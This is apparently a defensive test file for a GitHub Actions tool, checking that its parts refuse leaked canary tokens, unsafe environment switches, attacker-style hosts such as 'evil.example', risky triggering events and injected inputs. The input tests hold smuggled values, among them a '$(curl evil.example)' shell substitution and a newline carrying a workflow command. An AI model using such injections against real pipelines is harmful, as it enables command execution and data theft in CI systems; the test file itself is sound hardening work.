import type { InputName } from '../../../src/core/inputs.ts';
import type { Part } from '../../../src/core/model/part.ts';
import { type Case, check, type Family } from '../family.ts';
import { OWN_RUN, runPart } from '../run-part.ts';

/** Assembled, so that no scanner takes them for real ones. */
const KEY = ['sk', 'ant', 'api03', 'CANARYCANARY0123456789'].join('-');
const JOB_TOKEN = ['ghs', '123456', 'eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiIxIn0.CANARYCANARY'].join('_');

interface Start {
  readonly part: Part;
  readonly environment?: Readonly<Record<string, string>>;
  readonly inputs?: Partial<Record<InputName, string>>;
}

/** What every start gets besides: an input that no part accepts. A part that names the other fault did not read it. */
const UNREAD = { 'issue-key': 'NOT A KEY', 'window-days': 'many' } as const;
const badInput = (part: Part) =>
  part === 'fetch' ? { 'window-days': UNREAD['window-days'] } : { 'issue-key': UNREAD['issue-key'] };

async function errorOf({ part, environment = {}, inputs = {} }: Start): Promise<string | undefined> {
  const end = await runPart(part, {
    environment: { ...OWN_RUN, ...environment },
    inputs,
    never: [KEY, JOB_TOKEN, 'CANARY'],
  });
  check(end.outputs.size === 0, 'there are outputs');
  check(end.exitCode !== 0, 'the part ended well');
  return end.errorCode;
}

/** The part stops before it reads an input. */
const beforeInputs = (part: Part, name: string, value: string, code = 'foreign-right'): Case => ({
  name: `${part}: ${name}`,
  run: async () => {
    const error = await errorOf({ part, environment: { [name]: value }, inputs: badInput(part) });
    check(error === code, `it ended with ${error ?? 'another error'}`);
    return ['FAIL', 'SILENT'];
  },
});

/** The part stops, and goes further as soon as an input says that it is meant. */
const untilAgreed = (start: Start, code: string, agreed: Partial<Record<InputName, string>>): Case => ({
  name: `${start.part}: ${code} by ${Object.keys(start.environment ?? {}).join(' and ')}`,
  run: async () => {
    const refused = await errorOf(start);
    check(refused === code, `it ended with ${refused ?? 'another error'}`);
    const allowed = await errorOf({ ...start, inputs: { ...start.inputs, ...agreed } });
    check(allowed === NEXT_ERROR[start.part], `with the input it ended with ${allowed ?? 'another error'}`);
    return ['FAIL', 'SILENT'];
  },
});

/** How a part ends that has neither token nor documents, when nothing else is wrong. */
const NEXT_ERROR = { fetch: 'no-token', classify: 'unreadable-document', report: 'no-token' } as const;

const rejected = (part: Part, inputs: Partial<Record<InputName, string>>, name: string): Case => ({
  name: `${part}: ${name}`,
  run: async () => {
    const error = await errorOf({ part, inputs });
    check(error === 'bad-input', `it ended with ${error ?? 'another error'}`);
    return ['REJ', 'SILENT'];
  },
});

const address = (environment: Readonly<Record<string, string>>, part: Part = 'report', code = 'odd-server'): Case => ({
  name: `${part}: ${Object.values(environment).join(' with ')}`,
  run: async () => {
    const error = await errorOf({ part, environment: { GITHUB_API_URL: 'https://api.github.com', ...environment } });
    check(error === code, `it ended with ${error ?? 'another error'}`);
    return ['FAIL', 'SILENT'];
  },
});

const GHES = {
  GITHUB_SERVER_URL: 'https://ghe.example.com',
  GITHUB_API_URL: 'https://ghe.example.com/api/v3',
} as const;

export const families: readonly Family[] = [
  {
    id: 'M01',
    input: 'a token of GitHub in classify, under its usual names or under any other',
    expected: ['FAIL', 'SILENT'],
    cases: [
      beforeInputs('classify', 'GITHUB_TOKEN', 'CANARY'),
      beforeInputs('classify', 'INPUT_GITHUB-TOKEN', 'CANARY'),
      beforeInputs('classify', 'SOMETHING', JOB_TOKEN),
    ],
  },
  {
    id: 'M02',
    input: 'a key of the model in fetch or report, or the right to an identity',
    expected: ['FAIL', 'SILENT'],
    cases: [
      beforeInputs('fetch', 'ANTHROPIC_API_KEY', 'CANARY'),
      beforeInputs('report', 'SOMETHING', KEY),
      beforeInputs('report', 'INPUT_ANTHROPIC-API-KEY', 'CANARY'),
      beforeInputs('report', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'CANARY'),
    ],
  },
  {
    id: 'M03',
    input: 'switches that make log lines into commands, load foreign code, or send traffic another way',
    expected: ['FAIL', 'SILENT'],
    cases: [
      beforeInputs('fetch', 'ACTIONS_ALLOW_UNSECURE_COMMANDS', 'true'),
      beforeInputs('report', 'ACTIONS_ALLOW_UNSECURE_STOPCOMMAND_TOKENS', 'true'),
      beforeInputs('classify', 'ANTHROPIC_BASE_URL', 'https://evil.example'),
      beforeInputs('classify', 'NODE_OPTIONS', '--no-deprecation', 'unsafe-environment'),
      untilAgreed(
        { part: 'classify', environment: { HTTPS_PROXY: 'http://127.0.0.1:9', NODE_EXTRA_CA_CERTS: '/dev/null' } },
        'proxied-network',
        {
          'allow-proxy': 'true',
        },
      ),
      untilAgreed({ part: 'report', environment: { RUNNER_ENVIRONMENT: 'self-hosted' } }, 'self-hosted-runner', {
        'self-hosted': 'true',
      }),
    ],
  },
  {
    id: 'M04',
    input: 'addresses of GitHub that are not https, or of a host that nobody named',
    expected: ['FAIL', 'SILENT'],
    cases: [
      address({ GITHUB_SERVER_URL: 'http://github.com' }, 'classify', 'bad-url'),
      address({ GITHUB_API_URL: 'https://CANARY@api.github.com' }, 'fetch', 'bad-url'),
      address({ GITHUB_API_URL: 'https://api.github.com.evil.example' }),
      address({ GITHUB_SERVER_URL: 'https://evil.example', GITHUB_API_URL: 'https://evil.example/api/v3' }),
      untilAgreed({ part: 'report', environment: GHES }, 'odd-server', { 'github-host': 'ghe.example.com' }),
    ],
  },
  {
    id: 'M05',
    input: 'inputs of a dispatch that hold a command, a line break or far too large a number',
    expected: ['REJ', 'SILENT'],
    cases: [
      rejected('fetch', { repository: '$(curl evil.example)/CANARY' }, 'a command of the shell'),
      rejected('fetch', { branch: 'main\n::set-output name=manifest-sha256::CANARY' }, 'a line break'),
      rejected('fetch', { 'max-runs': '99999999999999999999' }, 'a number without end'),
      rejected('report', { 'issue-key': '`##[add-mask]CANARY`' }, 'a command of the runner'),
    ],
  },
  {
    id: 'M07',
    input: 'events that people outside of the repository can cause',
    expected: ['FAIL', 'SILENT'],
    cases: (['pull_request_target', 'workflow_run', 'issue_comment'] as const).map((event, i): Case => {
      const part = (['fetch', 'classify', 'report'] as const)[i] ?? 'fetch';
      return beforeInputs(part, 'GITHUB_EVENT_NAME', event, 'dangerous-event');
    }) as unknown as Family['cases'],
  },
];
